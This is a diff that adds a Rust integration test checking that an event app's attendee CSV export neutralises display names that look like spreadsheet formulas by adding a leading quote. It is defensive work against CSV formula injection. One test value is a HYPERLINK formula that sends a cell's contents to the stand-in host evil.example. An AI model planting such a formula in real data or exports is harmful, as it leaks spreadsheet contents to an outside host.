@@ -84,3 +84,43 @@ async fn the_secretariat_exports_attendees_as_csv_that_excel_reads() {
         json!([{ "details": { "rows": 2 } }])
     );
 }
+
+#[tokio::test]
+async fn names_that_look_like_formulas_reach_the_csv_as_text() {
+    let app = TestApp::spawn().await;
+    let secretariat = app.create_member(&[Role::Secretariat]).await;
+    let event = published_event(&app, &secretariat, event_input(&app, None, json!({}))).await;
+    let names = [
+        "=HYPERLINK(\"https://evil.example/?leak=\"&C2,\"詳細\")",
+        "-1+2",
+    ];
+    for name in names {
+        let member = app.create_member(&[Role::Alumnus]).await;
+        app.client_as(&member)
+            .query_with(
+                "mutation($name: String!) { updateMyProfile(input: { displayName: $name }) { id } }",
+                json!({ "name": name }),
+            )
+            .await
+            .data();
+        register(&app, &member, &event).await.data();
+    }
+
+    let response = app
+        .client_as(&secretariat)
+        .get(&format!("/events/{event}/attendees.csv"))
+        .await;
+    assert_eq!(response.status(), 200);
+    let body = response.bytes().await.unwrap();
+    assert!(body.starts_with(b"\xEF\xBB\xBF"), "still UTF-8 with BOM");
+    let mut reader = csv::Reader::from_reader(&body[3..]);
+    let written: Vec<String> = reader
+        .records()
+        .map(|record| record.unwrap()[1].to_owned())
+        .collect();
+    assert_eq!(
+        written,
+        names.map(|name| format!("'{name}")),
+        "a leading quote makes a spreadsheet read each as text"
+    );
+}
